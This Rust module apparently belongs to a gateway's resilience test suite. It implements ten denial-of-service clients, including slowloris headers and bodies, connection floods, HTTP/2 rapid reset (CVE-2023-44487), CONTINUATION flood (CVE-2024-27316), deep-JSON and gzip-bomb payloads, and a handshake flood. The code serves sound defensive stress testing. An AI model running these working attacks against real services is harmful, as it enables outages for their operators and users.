//! What hostile clients do. Each plays until it is stopped.

use std::{
    future::Future,
    io::Write as _,
    pin::Pin,
    sync::{Arc, LazyLock},
    time::Duration,
};

use serde_json::json;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::sleep,
};

use crate::support::unread::{PROTOCOLS, Protocol};

type Playing = Pin<Box<dyn Future<Output = ()> + Send>>;

/// A kind of attack.
pub struct Attack {
    pub name: &'static str,
    pub clients: usize,
    /// What one client does.
    pub play: fn(Arc<str>, usize) -> Playing,
    /// Waits until the attack has begun.
    pub is_on: fn(Arc<str>, usize) -> Playing,
}

const PATH: &str = "/db/neo4j/query/v2";

pub const ATTACKS: [Attack; 10] = [
    Attack { name: "slow heads", clients: 500, play: |at, _| Box::pin(again(at, slow_head)), is_on: at_once },
    Attack { name: "slow bodies", clients: 200, play: |at, _| Box::pin(again(at, slow_body)), is_on: at_once },
    Attack { name: "idle connections", clients: 5000, play: |at, _| Box::pin(again(at, idle)), is_on: are_connected },
    Attack { name: "unread answers", clients: 12, play: |at, number| Box::pin(unread(at, number)), is_on: at_once },
    Attack { name: "pipelining", clients: 16, play: |at, _| Box::pin(again(at, pipelining)), is_on: at_once },
    Attack { name: "rapid reset", clients: 8, play: |at, _| Box::pin(again(at, rapid_reset)), is_on: at_once },
    Attack { name: "continuation flood", clients: 8, play: |at, _| Box::pin(again(at, continuation)), is_on: at_once },
    Attack { name: "deep JSON", clients: 8, play: |at, _| Box::pin(again(at, deep)), is_on: at_once },
    Attack { name: "gzip bombs", clients: 8, play: |at, _| Box::pin(again(at, bomb)), is_on: at_once },
    Attack { name: "large bodies", clients: 24, play: |at, _| Box::pin(again(at, large_body)), is_on: at_once },
];

fn at_once(_: Arc<str>, _: usize) -> Playing {
    Box::pin(async {})
}

/// Waits until the system has this number of connections to the address.
fn are_connected(address: Arc<str>, count: usize) -> Playing {
    Box::pin(async move {
        let port: u16 = address.rsplit(':').next().and_then(|port| port.parse().ok()).expect("a port");
        let peer = format!(" 0100007F:{port:04X} 01 ");
        let open = || {
            let table = std::fs::read_to_string("/proc/net/tcp").expect("Linux tells");
            table.lines().filter(|line| line.contains(&peer)).count()
        };
        let all = async {
            while open() < count {
                sleep(Duration::from_millis(20)).await;
            }
        };
        tokio::time::timeout(Duration::from_secs(60), all).await.expect("the gateway takes connections");
    })
}

/// Plays again and again; how one time ends does not matter.
async fn again<F: Future<Output = std::io::Result<()>>>(address: Arc<str>, play: fn(Arc<str>) -> F) {
    loop {
        if play(Arc::clone(&address)).await.is_err() {
            // Not to take all of the processor from the gateway.
            sleep(Duration::from_millis(5)).await;
        }
    }
}

fn head(address: &str, length: usize) -> String {
    format!(
        "POST {PATH} HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
    )
}

async fn slow_head(address: Arc<str>) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(&*address).await?;
    stream.write_all(format!("GET / HTTP/1.1\r\nHost: {address}\r\n").as_bytes()).await?;
    loop {
        stream.write_all(b"X-A: b\r\n").await?;
        sleep(Duration::from_millis(200)).await;
    }
}

async fn slow_body(address: Arc<str>) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(&*address).await?;
    stream.write_all(head(&address, 60_000_000).as_bytes()).await?;
    loop {
        stream.write_all(b" ").await?;
        sleep(Duration::from_millis(100)).await;
    }
}

async fn idle(address: Arc<str>) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(&*address).await?;
    stream.read(&mut [0]).await.map(drop)
}

/// Results of 2 GB that nobody reads.
async fn unread(address: Arc<str>, number: usize) {
    let request = json!({ "statement": "ROWS 2000000 WIDE 1000" });
    let protocol: Protocol = PROTOCOLS[number % 2];
    loop {
        // It is cut off meanwhile.
        let answer = protocol.ask(&address, PATH, &request).await;
        sleep(Duration::from_secs(10)).await;
        drop(answer);
    }
}

async fn pipelining(address: Arc<str>) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(&*address).await?;
    let body = r#"{"statement": "RETURN 1 AS n"}"#;
    let requests = (head(&address, body.len()) + body).repeat(300);
    stream.write_all(requests.as_bytes()).await?;
    stream.read_exact(&mut [0; 1 << 15]).await.map(drop)
}

/// Streams that are opened and reset at once (CVE-2023-44487).
async fn rapid_reset(address: Arc<str>) -> std::io::Result<()> {
    let mut stream = http2(&address).await?;
    for id in (1..2_000_000_u32).step_by(2) {
        let request = frame(1, 4, id, b"\x82\x86\x84\x41\x01h");
        let reset = frame(3, 0, id, &8_u32.to_be_bytes());
        stream.write_all(&[request, reset].concat()).await?;
    }
    Ok(())
}

/// A connection on which HTTP/2 has begun.
async fn http2(address: &str) -> std::io::Result<TcpStream> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(4, 0, 0, &[])).await?;
    Ok(stream)
}

/// A head without an end (CVE-2024-27316).
async fn continuation(address: Arc<str>) -> std::io::Result<()> {
    let mut stream = http2(&address).await?;
    stream.write_all(&frame(1, 0, 1, b"\x82\x86\x84")).await?;
    // A header that is not indexed: its name and its value have 120 bytes each.
    let mut header = vec![0, 120];
    header.extend([b'x'; 120]);
    header.push(120);
    header.extend([b'y'; 120]);
    let headers = header.repeat(64);
    loop {
        stream.write_all(&frame(9, 0, 1, &headers)).await?;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short payload").to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

async fn deep(address: Arc<str>) -> std::io::Result<()> {
    post(address, format!("{{\"parameters\": {}", "[".repeat(1 << 20)).into_bytes()).await
}

async fn large_body(address: Arc<str>) -> std::io::Result<()> {
    post(address, vec![b' '; 40 << 20]).await
}

/// 256 MiB of nothing in a quarter of a megabyte.
static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..256 {
        encoder.write_all(&spaces).expect("memory takes it");
    }
    encoder.finish().expect("memory takes it")
});

async fn bomb(address: Arc<str>) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(&*address).await?;
    let coding = "Content-Encoding: gzip\r\n\r\n";
    let head = head(&address, BOMB.len()).replacen("\r\n\r\n", &format!("\r\n{coding}"), 1);
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&BOMB).await?;
    stream.read(&mut [0; 1 << 12]).await.map(drop)
}

/// Has the gateway compute handshakes that nobody completes, with the same first message each time.
pub async fn handshakes(address: Arc<str>, hello: Arc<[u8]>) {
    loop {
        let begun = async {
            let mut stream = TcpStream::connect(&*address).await?;
            stream.write_all(&hello).await?;
            stream.read(&mut [0; 1 << 12]).await
        };
        if begun.await.is_err() {
            sleep(Duration::from_millis(5)).await;
        }
    }
}

async fn post(address: Arc<str>, body: Vec<u8>) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(&*address).await?;
    stream.write_all(head(&address, body.len()).as_bytes()).await?;
    stream.write_all(&body).await?;
    stream.read(&mut [0; 1 << 12]).await.map(drop)
}
